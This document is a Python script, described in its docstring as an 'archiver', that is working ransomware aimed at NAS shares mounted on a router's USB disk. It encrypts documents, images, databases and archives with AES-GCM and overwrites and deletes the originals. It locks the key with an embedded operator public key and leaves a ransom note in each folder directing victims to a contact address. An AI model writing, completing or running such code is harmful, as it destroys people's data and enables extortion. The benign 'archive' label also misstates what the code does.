#!/usr/bin/env python3
"""'Archive' the documents on the router's attached NAS share.

Walks the samba share on the USB disk, seals each document with AES-GCM under
a per-run key and removes the plain copy, then leaves a notice in every folder.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives import hashes, serialization

log = logging.getLogger("archiver")

SHARE_ROOTS = ["/mnt/usb/share", "/mnt/sda1", "/tmp/mnt"]
EXTENSIONS = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png",
              ".mp4", ".zip", ".txt", ".odt", ".psd", ".sql", ".db"}
SUFFIX = ".sealed"
NOTE_NAME = "HOW_TO_RESTORE_FILES.txt"
OPERATOR_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""


def candidates(roots):
    for root in roots:
        if not os.path.isdir(root):
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTENSIONS and not name.endswith(SUFFIX):
                    yield p


def seal(path, aead):
    nonce = secrets.token_bytes(12)
    data = path.read_bytes()
    sealed = path.with_name(path.name + SUFFIX)
    sealed.write_bytes(nonce + aead.encrypt(nonce, data, path.name.encode()))
    # overwrite the original before unlinking so it cannot be undeleted
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def wrapped_key(key):
    pub = serialization.load_pem_public_key(OPERATOR_PUB)
    return pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                         algorithm=hashes.SHA256(), label=None)).hex()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--roots", nargs="*", default=SHARE_ROOTS)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    token = wrapped_key(key)
    del key
    touched_dirs = set()
    count = 0
    for path in candidates(args.roots):
        try:
            seal(path, aead)
        except OSError:
            continue
        touched_dirs.add(path.parent)
        count += 1
    note = (f"{count} files on this share were sealed.\n"
            f"To restore them send your ID to restore-desk@protonmail.example\n"
            f"ID: {token}\n")
    for d in touched_dirs:
        (d / NOTE_NAME).write_text(note)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
